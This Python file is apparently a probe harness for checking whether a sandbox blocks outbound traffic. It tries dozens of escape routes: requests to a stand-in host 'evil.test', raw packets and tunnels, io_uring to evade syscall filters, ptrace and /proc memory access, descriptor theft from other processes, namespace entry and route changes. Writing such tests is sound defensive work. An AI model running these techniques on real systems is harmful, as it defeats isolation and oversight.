"""What tries to get out: it does what it is told on standard input, a line at a time, and answers each line.

`ID WORD ARGUMENT...` in, `ID ok HEX` or `ID no HEX` out, in any order. The same program runs in a jail, where nothing of
it may work, and outside, where all of it does. Only the standard library, so that it needs no file inside.
"""
import ctypes, errno, mmap, os, select, signal, socket, ssl, struct, subprocess, sys, threading, time

GET = b"GET / HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"
LIBC = ctypes.CDLL(None, use_errno=True)


# --- plain bytes ---


def raw(text):
    return b"" if text == "-" else bytes.fromhex(text)


def family(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def stream(address, port, protocol=0):
    made = socket.socket(family(address), socket.SOCK_STREAM, protocol)
    made.settimeout(3)
    return made


def connected(address, port, protocol=0):
    made = stream(address, port, protocol)
    made.connect((address, int(port)))
    return made


def rest(sock, wait=2.0):
    """Everything up to the end, or until nothing comes for a while."""
    sock.settimeout(wait)
    answer = b""
    try:
        while piece := sock.recv(65536):
            answer += piece
    except OSError:
        pass
    return answer


def talk(address, port, data, wait):
    with connected(address, port) as sock:
        try:
            sock.sendall(raw(data))
        except OSError:
            pass  # A refusal may come before all is said.
        return rest(sock, int(wait) / 1000)


def udp(address, port, data, wait):
    with socket.socket(family(address), socket.SOCK_DGRAM) as sock:
        sock.settimeout(int(wait) / 1000)
        sock.connect((address, int(port)))
        sock.send(raw(data))
        return sock.recv(65536)


def tls(address, port, name, data):
    """A request over TLS, whoever the server says it is."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with connected(address, port) as sock:
        with context.wrap_socket(sock, server_hostname=None if name == "-" else name) as inner:
            inner.sendall(raw(data))
            return rest(inner)


def run(*words):
    """A program with a clean environment; words with `=` in front are its environment."""
    words = [raw(word).decode() for word in words]
    names = [word for word in words if "=" in word.split("/")[0]]
    clean = {"PATH": "/usr/bin:/bin", "HOME": "/nonexistent", "LANG": "C.UTF-8"}
    clean.update(word.split("=", 1) for word in names)
    ended = subprocess.run(words[len(names):], env=clean, stdin=subprocess.DEVNULL, capture_output=True, timeout=20)
    return ended.stdout + ended.stderr


# --- ways around: each tries to reach a place, and returns what the place said or what it did ---


def web(sock):
    sock.settimeout(3)
    sock.sendall(GET)
    return rest(sock)


def tcp(address, port):
    return web(connected(address, port))


def multipath(address, port):
    return web(connected(address, port, 262))


def sctp(address, port):
    return web(connected(address, port, 132))


def udplite(address, port):
    with socket.socket(family(address), socket.SOCK_DGRAM, 136) as sock:
        sock.sendto(b"out", (address, int(port)))
    return b"sent"


def datagram(address, port):
    with socket.socket(family(address), socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sock.sendto(b"out", (address, int(port)))
        if not address.startswith("2"):
            sock.settimeout(0.3)
            try:
                return sock.recv(100)
            except TimeoutError:
                pass
    return b"sent"


def fast_open(address, port):
    sock = stream(address, port)
    # One call does it all only where it may wait.
    sock.settimeout(None)
    sock.sendto(GET, socket.MSG_FASTOPEN, (address, int(port)))
    return rest(sock)


def fast_open_connect(address, port):
    sock = stream(address, port)
    sock.setsockopt(socket.IPPROTO_TCP, 30, 1)  # TCP_FASTOPEN_CONNECT
    sock.connect((address, int(port)))
    return web(sock)


def option(level, name, value):
    def tried(address, port):
        sock = stream(address, port)
        sock.setsockopt(level, name, value)
        sock.connect((address, int(port)))
        return web(sock)
    return tried


bound_device = option(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"w0\0")
marked = option(socket.SOL_SOCKET, socket.SO_MARK, 0x77)
unrouted = option(socket.SOL_SOCKET, socket.SO_DONTROUTE, 1)
priority = option(socket.SOL_SOCKET, socket.SO_PRIORITY, 7)


def interface(address, port):
    """Every interface by its number, with IP_UNICAST_IF."""
    last = OSError(errno.ENODEV, "no interface")
    for index, _ in socket.if_nameindex():
        sock = stream(address, port)
        sock.setsockopt(socket.IPPROTO_IP, 50, struct.pack("!I", index))
        try:
            sock.connect((address, int(port)))
            return web(sock)
        except OSError as error:
            last = error
    raise last


def from_source(address, port, source):
    sock = stream(address, port)
    sock.setsockopt(socket.IPPROTO_IP, 15, 1)  # IP_FREEBIND
    sock.bind((source, 0))
    sock.connect((address, int(port)))
    return web(sock)


def transparent(address, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.IPPROTO_IP, 19, 1)  # IP_TRANSPARENT
        sock.bind(("192.168.77.2", 0))
        sock.sendto(b"out", (address, int(port)))
    return b"sent"


def repair(address, port):
    """In repair mode a connection stands without a handshake; its data leave as segments nobody opened."""
    sock = stream(address, port)
    sock.setsockopt(socket.IPPROTO_TCP, 19, 1)  # TCP_REPAIR
    sock.connect((address, int(port)))
    sock.setsockopt(socket.IPPROTO_TCP, 19, 0)
    sock.sendall(b"out")
    return b"sent"


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return 0xFFFF & ~total


def ip_packet(address, protocol, payload):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 7, 0, 64, protocol, 0,
                       socket.inet_aton("192.168.77.2"), socket.inet_aton(address))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def segment(address):
    """The first packet of a TCP connection."""
    body = struct.pack("!HHIIBBHHH", 4000, 80, 1, 0, 5 << 4, 2, 1000, 0, 0)
    false_head = socket.inet_aton("192.168.77.2") + socket.inet_aton(address) + struct.pack("!HH", 6, len(body))
    return body[:16] + struct.pack("!H", checksum(false_head + body)) + body[18:]


ECHO = struct.pack("!BBHHH", 8, 0, 0xF7FD, 1, 1)


def ping(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as sock:
        sock.sendto(ECHO, (address, 0))
    return b"sent"


def ping6(address):
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, 58) as sock:
        sock.sendto(struct.pack("!BBHHH", 128, 0, 0, 1, 1), (address, 0))
    return b"sent"


def raw_icmp(address):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sock:
        sock.sendto(ECHO, (address, 0))
    return b"sent"


def raw_ip(address):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        sock.sendto(ip_packet(address, 6, segment(address)), (address, 0))
    return b"sent"


def raw_protocol(address):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, 47) as sock:
        sock.sendto(b"out-in-gre", (address, 0))
    return b"sent"


def raw_ip6(address):
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, 59) as sock:
        sock.sendto(b"out-in-nothing", (address, 0))
    return b"sent"


def frames(address):
    """A whole frame on every interface there is."""
    said = []
    for _, name in socket.if_nameindex():
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
            sock.bind((name, 0x0800))
            sock.send(b"\xff" * 6 + b"\x02" * 6 + b"\x08\x00" + ip_packet(address, 17, struct.pack("!HHHH", 9, 9, 8, 0)))
            said.append(name)
    return " ".join(said).encode()


def tunnel(address):
    """A network interface of one's own."""
    with open("/dev/net/tun", "r+b", buffering=0) as device:
        import fcntl
        fcntl.ioctl(device, 0x400454CA, struct.pack("16sH22x", b"way%d", 0x1001))
        return b"made"


# --- io_uring: the calls that a filter of system calls does not see ---


def ring():
    params = bytearray(120)
    held = (ctypes.c_char * 120).from_buffer(params)
    fd = LIBC.syscall(425, 8, held)
    if fd < 0:
        raise OSError(ctypes.get_errno(), "io_uring_setup")
    sq = struct.unpack_from("8I", params, 40)
    cq = struct.unpack_from("8I", params, 80)
    entries = struct.unpack_from("2I", params, 0)
    size = max(sq[6] + 4 * entries[0], cq[5] + 16 * entries[1])
    rings = mmap.mmap(fd, size, mmap.MAP_SHARED, offset=0)
    queue = mmap.mmap(fd, 64 * entries[0], mmap.MAP_SHARED, offset=0x10000000)

    def submit(opcode, target, address=0, length=0, offset=0):
        struct.pack_into("BBHiQQIIQ", queue, 0, opcode, 0, 0, target, offset, address, length, 0, 1)
        tail, = struct.unpack_from("I", rings, sq[1])
        struct.pack_into("I", rings, sq[6] + 4 * (tail & (entries[0] - 1)), 0)
        struct.pack_into("I", rings, sq[1], tail + 1)
        if LIBC.syscall(426, fd, 1, 1, 1, None, 0) < 0:
            raise OSError(ctypes.get_errno(), "io_uring_enter")
        head, = struct.unpack_from("I", rings, cq[0])
        _, result, _ = struct.unpack_from("QiI", rings, cq[5] + 16 * (head & (entries[1] - 1)))
        struct.pack_into("I", rings, cq[0], head + 1)
        if result < 0:
            raise OSError(-result, os.strerror(-result))
        return result
    return submit


def by_ring(address, port):
    submit = ring()
    sock = submit(45, socket.AF_INET, length=0, offset=socket.SOCK_STREAM)
    place = ctypes.create_string_buffer(struct.pack("=H", socket.AF_INET) + struct.pack("!H", int(port)) + socket.inet_aton(address) + b"\0" * 8)
    submit(16, sock, ctypes.addressof(place), offset=16)
    text = ctypes.create_string_buffer(GET)
    submit(26, sock, ctypes.addressof(text), len(GET))
    back, answer = ctypes.create_string_buffer(4096), b""
    while count := submit(27, sock, ctypes.addressof(back), 4096):
        answer += back.raw[:count]
    return answer


# --- sockets of others ---


def others():
    """Processes that are not this one's own."""
    mine = {os.getpid(), os.getppid()}
    return sorted(pid for pid in map(int, filter(str.isdigit, os.listdir("/proc"))) if pid not in mine)


def tried_on(found):
    """Asks over each socket that was got from somewhere else."""
    said = []
    for fd in found:
        try:
            with socket.socket(fileno=fd) as sock:
                if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
                    said.append(b"a listener")
                elif sock.family in (socket.AF_INET, socket.AF_INET6, socket.AF_UNIX):
                    said.append(b"a socket " + web(sock))
        except OSError as error:
            said.append(str(error).encode())
    return b"; ".join(said)


def inherited():
    """What was left open by whoever started this."""
    import stat
    left = [int(fd) for fd in os.listdir("/proc/self/fd") if int(fd) > 2]
    found = []
    for fd in left:
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                found.append(os.dup(fd))
        except OSError:
            pass
    return tried_on(found)


def taken(*only):
    """Copies descriptors out of other processes with pidfd_getfd."""
    found = []
    for pid in [int(pid) for pid in only] or others():
        pidfd = LIBC.syscall(434, pid, 0)
        if pidfd < 0:
            continue
        for number in range(128):
            got = LIBC.syscall(438, pidfd, number, 0)
            if got >= 0:
                found.append(got)
    return tried_on(found)


def traced(*only):
    """Stops other processes: who can do that can make them do anything."""
    held = []
    for pid in [int(pid) for pid in only] or others():
        if LIBC.ptrace(16, ctypes.c_long(pid), None, None) == 0:
            held.append(pid)
            os.waitpid(pid, 0x40000000)
            LIBC.ptrace(17, ctypes.c_long(pid), None, None)
    return b"held %d" % len(held) if held else b""


def looked_into(*only):
    """Looks at the descriptors of other processes, and opens their memory."""
    seen = []
    for pid in [int(pid) for pid in only] or others():
        for place in ("fd", "ns/net", "mem"):
            try:
                if place == "fd":
                    os.readlink(f"/proc/{pid}/fd/{os.listdir(f'/proc/{pid}/fd')[0]}")
                else:
                    os.close(os.open(f"/proc/{pid}/{place}", os.O_RDWR if place == "mem" else os.O_RDONLY))
                seen.append(f"{pid}/{place}")
            except OSError:
                pass
    return ("seen " + " ".join(seen)).encode() if seen else b""


def entered(address, port, *leave):
    """Goes into every network namespace it can name, and asks from there."""
    if leave:
        LIBC.unshare(0x40000000)
    answers = b""
    for pid in ["1", *map(str, others())]:
        try:
            fd = os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
        except OSError:
            continue
        if LIBC.setns(fd, 0x40000000) == 0:
            try:
                answers += tcp(address, port)
            except OSError:
                pass
        os.close(fd)
    return answers


# --- the network of the jail itself ---


def netlink(kind, body, flags=0x605):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as sock:
        sock.settimeout(2)
        sock.send(struct.pack("=IHHII", 16 + len(body), kind, flags, 1, 0) + body)
        code, = struct.unpack_from("=i", sock.recv(4096), 16)
        if code:
            raise OSError(-code, os.strerror(-code))


def attribute(kind, data):
    return struct.pack("=HH", 4 + len(data), kind) + data


LOOPBACK = attribute(4, struct.pack("=I", 1))


def new_address(address, port):
    """Gives the loopback an address, so that whoever asks for it talks to what listens inside."""
    there = attribute(2, socket.inet_aton(address))
    body = struct.pack("=BBBBI", socket.AF_INET, 32, 0, 0, 1) + there
    netlink(20, body)
    try:
        return b"made " + tcp(address, port)
    finally:
        netlink(21, body, 5)


def new_route(address, port):
    """Leads an address to the loopback, where a listener on all addresses takes it."""
    body = struct.pack("=BBBBBBBBI", socket.AF_INET, 32, 0, 0, 255, 3, 254, 2, 0)
    body += attribute(1, socket.inet_aton(address)) + LOOPBACK
    netlink(24, body)
    try:
        return b"made " + tcp(address, port)
    finally:
        netlink(25, body, 5)


def other_netlink():
    made = []
    for protocol in (4, 6, 12, 15, 16):
        try:
            socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol).close()
            made.append(protocol)
        except OSError:
            pass
    return b"made %r" % made if made else b""


def families():
    """Sockets of every family but the four that programs need."""
    made = []
    for number in range(2, 46):
        if number in (2, 10, 16):
            continue
        for kind in (1, 2, 3, 5):
            try:
                socket.socket(number, kind, 0).close()
                made.append(number)
                break
            except OSError:
                pass
    return b"made %r" % made if made else b""


def new_user():
    """Becomes root of a namespace of one's own, who may do everything to its networks."""
    if LIBC.unshare(0x10000000 | 0x40000000) < 0:
        raise OSError(ctypes.get_errno(), "unshare")
    return b"made"


def sysctl(name, value):
    with open("/proc/sys/" + name, "w") as file:
        file.write(value)
    return b"made"


def bound(kind, address, port):
    """Takes a port, with every option that shares one."""
    sock = socket.socket(family(address), socket.SOCK_STREAM if kind == "tcp" else socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    if family(address) == socket.AF_INET6:
        sock.setsockopt(41, 26, 1)  # IPV6_V6ONLY
    sock.bind((address, int(port)))
    if kind == "tcp":
        sock.listen()
    return b"bound"


def path_socket(path):
    """Talks to whoever listens at a path; one that begins with @ is abstract."""
    path = raw(path).decode()
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.settimeout(2)
        sock.connect("\0" + path[1:] if path[0] == "@" else path)
        return web(sock)


def relay(address, port, request):
    """A proxy inside, as others inside would use it: it dials for itself."""
    listener = socket.create_server(("127.0.0.1", 0))

    def serve():
        client, _ = listener.accept()
        client.recv(4096)
        try:
            with connected(address, port) as out:
                client.sendall(b"HTTP/1.1 200 OK\r\n\r\n" + web(out))
        except OSError as error:
            client.sendall(b"HTTP/1.1 502 " + str(error).encode() + b"\r\n\r\n")
        client.close()
    threading.Thread(target=serve, daemon=True).start()
    with connected("127.0.0.1", listener.getsockname()[1]) as sock:
        sock.sendall(raw(request))
        return rest(sock)


def listens(port):
    """A server of the jail's own, and a client of it."""
    with socket.create_server(("127.0.0.1", int(port))) as listener:
        client = socket.create_connection(("127.0.0.1", int(port)))
        accepted, _ = listener.accept()
        accepted.sendall(b"mine")
        return client.recv(10)


def nothing():
    return b""


# --- the loop ---

PLAIN = {word.__name__: word for word in (talk, udp, tls, run)}


def forked(word, *arguments):
    """In a process of its own: what it changes about itself is gone afterwards."""
    out, into = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            signal.alarm(15)
            os.close(out)
            said = b"+" + globals()[word](*arguments)
        except BaseException as error:
            said = b"-" + f"{type(error).__name__}: {error}".encode()
        os.write(into, said[:60000])
        os._exit(0)
    os.close(into)
    said = b""
    while piece := os.read(out, 65536):
        said += piece
    os.close(out)
    os.waitpid(child, 0)
    if said[:1] != b"+":
        raise OSError(said[1:].decode() or "ended")
    return said[1:]


def answer(number, word, arguments):
    try:
        said = PLAIN[word](*arguments) if word in PLAIN else forked(word, *arguments)
        line = f"{number} ok {said.hex()}\n"
    except Exception as error:
        line = f"{number} no {str(error).encode().hex()}\n"
    # One write: lines of different threads stay whole below the size of a pipe, and the lock keeps longer ones so.
    with LOCK:
        sys.stdout.write(line)
        sys.stdout.flush()


LOCK = threading.Lock()

if __name__ == "__main__":
    print("ready", os.getpid(), flush=True)
    for line in sys.stdin:
        number, word, *arguments = line.split()
        threading.Thread(target=answer, args=(number, word, arguments), daemon=True).start()
    # Whoever is still at something is not waited for.
    os._exit(0)
